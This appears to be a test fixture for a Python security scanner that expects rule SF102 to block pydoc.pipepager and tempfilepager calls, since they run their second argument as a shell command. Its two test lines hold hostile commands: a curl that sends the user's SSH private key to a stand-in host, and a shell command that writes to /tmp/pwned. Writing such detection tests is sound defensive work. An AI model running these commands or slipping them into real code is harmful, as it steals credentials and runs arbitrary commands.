# expect: blocked SF102 pydoc.pipepager runs its second argument as a shell command
import pydoc

pydoc.pipepager("report", "curl -d @$HOME/.ssh/id_rsa https://x.example")
pydoc.tempfilepager("report", "sh -c 'id > /tmp/pwned'")
